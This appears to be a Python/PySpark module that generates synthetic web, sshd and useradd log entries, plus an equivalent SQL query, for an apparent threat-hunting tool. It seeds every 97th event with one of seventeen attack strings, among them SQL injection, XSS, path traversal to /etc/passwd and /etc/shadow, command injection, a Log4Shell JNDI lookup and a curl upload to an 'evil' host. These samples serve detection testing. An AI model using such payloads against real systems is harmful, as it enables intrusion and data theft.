"""Log tables derived from the `events` table: the normalised entries, and the lines they would be written as.

Rule: users act from five addresses each; errors are failed sshd logins, signups are useradd calls, the
rest are web requests. Every 97th event, at 17 residues, carries one attack string in its message.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from huntframe.schema import LOG_ENTRY, conform

#: One message per signature, in the order of the signatures.
ATTACKS = (
    "id=1' union select password from users",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "x; cat notes",
    "${jndi:ldap://evil/a}",
    "() { :;}; echo hacked",
    "php://input",
    "/etc/shadow",
    "nikto scan",
    "menu",
    "failed login for root via ssh",
    "authentication failure",
    "account is now locked",
    "special privilege granted",
    "new service installed",
    "audit log was cleared",
    "curl upload to http://evil",
)
EVERY = 97


def log_from_events(events: DataFrame) -> DataFrame:
    """`events` as normalised log entries."""
    k = F.regexp_extract("props", r"(\d+)", 1)
    ip = F.concat(F.lit("10.0."), F.floor(F.col("user_id") / 100).cast("string"), F.lit("."), (F.col("user_id") % 100).cast("string"))
    user = F.concat(F.lit("u"), F.floor(F.col("user_id") / 5).cast("string"))
    kind = F.col("event_type")
    message = F.when(kind == "error", F.concat(F.lit("Failed password for "), user, F.lit(" from "), ip)).otherwise(kind)
    at = (F.col("event_id") % EVERY).cast("int")
    attack = F.when(at < len(ATTACKS), F.element_at(F.array(*map(F.lit, ATTACKS)), F.least(at, F.lit(len(ATTACKS) - 1)) + 1))
    base = events.select(
        F.col("event_id").alias("seq"),
        F.col("ts").cast("timestamp").alias("ts"),
        F.col("ts").cast("timestamp_ntz").alias("ts_local"),
        ip.alias("source_ip"),
        user.alias("username"),
        F.when(kind == "error", "sshd").when(kind == "signup", "useradd").otherwise("httpd").alias("process"),
        F.coalesce(attack, message).alias("message"),
        F.when(kind == "purchase", "POST").otherwise("GET").alias("http_method"),
        F.concat(F.lit("/"), kind, F.lit("/"), k).alias("http_path"),
        F.when(kind == "error", 500).when(kind == "signup", 404).otherwise(200).alias("http_status"),
        F.round(F.col("value") * 100).cast("long").alias("bytes_sent"),
        F.concat(F.lit("ua"), (F.col("event_id") % 7).cast("string")).alias("user_agent"),
        F.when(kind == "error", "ERROR").when(kind == "signup", "WARNING").otherwise("INFO").alias("log_level"),
        F.lit("apache").alias("log_format"),
        F.lit(True).alias("parse_ok"),
    )
    return conform(base.withColumn("raw", access_line()), LOG_ENTRY)


def access_line():
    """The access-log line of an entry's columns."""
    stamp = F.date_format("ts_local", "dd/MMM/yyyy:HH:mm:ss")
    request = F.concat(F.col("http_method"), F.lit(" "), F.col("http_path"), F.lit(" HTTP/1.1"))
    return F.concat(F.col("source_ip"), F.lit(" - "), F.col("username"), F.lit(" ["), stamp, F.lit(' +0000] "'), request, F.lit('" '), F.col("http_status").cast("string"), F.lit(" "), F.col("bytes_sent").cast("string"), F.lit(' "-" "'), F.col("user_agent"), F.lit('"'))


def events_log(spark: SparkSession, sf_dir: str) -> DataFrame:
    return log_from_events(dealt(spark.read.parquet(f"{sf_dir}/events.parquet")))


def dealt(table: DataFrame) -> DataFrame:
    """table, dealt to all cores where it comes in fewer splits than there are; a large table never does."""
    cores = table.sparkSession.sparkContext.defaultParallelism
    return table.repartition(cores) if table.rdd.getNumPartitions() < cores else table


def rendered(log: DataFrame, line) -> DataFrame:
    """(seq, value): each entry written as a line."""
    return log.select("seq", line.alias("value"))


#: The same entries in SQL, as a WITH clause to put a query behind.
LOG_SQL = (
    r"""WITH base AS (
  SELECT event_id AS seq, ts, '10.0.' || (user_id // 100) || '.' || (user_id % 100) AS source_ip, 'u' || (user_id // 5) AS username, event_type, event_id, value,
         regexp_extract(props, '(\d+)', 1) AS k FROM events
), plain AS (
  SELECT seq, ts, source_ip, username, CASE event_type WHEN 'error' THEN 'sshd' WHEN 'signup' THEN 'useradd' ELSE 'httpd' END AS process,
         CASE event_id % 97 """
    + " ".join(f"WHEN {i} THEN '{text.replace(chr(39), chr(39) * 2)}'" for i, text in enumerate(ATTACKS))
    + r""" ELSE CASE event_type WHEN 'error' THEN 'Failed password for ' || username || ' from ' || source_ip ELSE event_type END END AS message,
         CASE event_type WHEN 'purchase' THEN 'POST' ELSE 'GET' END AS http_method, '/' || event_type || '/' || k AS http_path,
         CASE event_type WHEN 'error' THEN 500 WHEN 'signup' THEN 404 ELSE 200 END AS http_status, CAST(round(value * 100) AS BIGINT) AS bytes_sent,
         'ua' || (event_id % 7) AS user_agent, CASE event_type WHEN 'error' THEN 'ERROR' WHEN 'signup' THEN 'WARNING' ELSE 'INFO' END AS log_level, NULL::VARCHAR AS event_id
  FROM base
), log AS (
  SELECT *, source_ip || ' - ' || username || ' [' || strftime(ts, '%d/%b/%Y:%H:%M:%S') || ' +0000] "' || http_method || ' ' || http_path || ' HTTP/1.1" ' || http_status || ' ' || bytes_sent || ' "-" "' || user_agent || '"' AS raw FROM plain
)"""
)
